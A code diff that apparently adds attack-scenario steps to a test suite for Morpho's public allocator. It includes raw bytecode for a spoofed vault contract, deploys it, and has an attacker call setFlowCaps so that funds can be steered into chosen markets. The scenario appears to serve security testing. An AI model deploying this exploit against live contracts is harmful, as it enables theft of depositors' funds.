@@ -59,6 +59,38 @@ export const BORROWED = {
   driftBps: 1,
 }
 
+/**
+ * What the attacker makes answer like a vault of its own: every market is enabled, one is in its queue, a second never
+ * comes to an answer, and nothing moves when it is asked to. Deployed at an address that follows from its code.
+ */
+const pretendedVault = (queued: string) =>
+  `0x${'00'.repeat(32)}60738060095f395ff3600436146025575f3560e01c6362518ddf14604157600160801b5f52600160205260605ff35b7315d34aaf54267db7d7c367839aaf71a00a2c6a655f5260205ff35b600435606f577f${queued.slice(2)}5f5260205ff35b606f56`
+
+/** Where the one stands that has no market of Morpho's in its queue, and the one that has WETH for USDC. */
+export const VAULT_OF_NOTHING = '0x2a3334e893451b28542F00BEF5329303EB817957'
+export const VAULT_OF_WETH = '0xA37dB683A2789f04201466643d5d9d4022c4e902'
+
+/** The attacker has the public allocator take such a vault for one that lets anyone move a part into a market. */
+export const pretendVault = (vault: string, queued: string, into: string): CaseStep[] => [
+  {
+    send: {
+      from: 'attacker',
+      to: '0x4e59b44847b379578588920cA78FbF26c0B4956C',
+      data: pretendedVault(queued),
+    },
+  },
+  {
+    send: {
+      from: 'attacker',
+      to: at('morpho-blue.publicAllocator'),
+      data: callData('function setFlowCaps(address, (bytes32, (uint128, uint128))[])', [
+        vault,
+        [queued, into].map((id) => [id, ['1000000000000', '1000000000000']]),
+      ]),
+    },
+  },
+]
+
 const MARKET_PARAMS = '(address, address, address, address, uint256)'
 
 /** The whale opens a market whose loan token is nobody's, and posts a base unit of WETH in it for another account. */
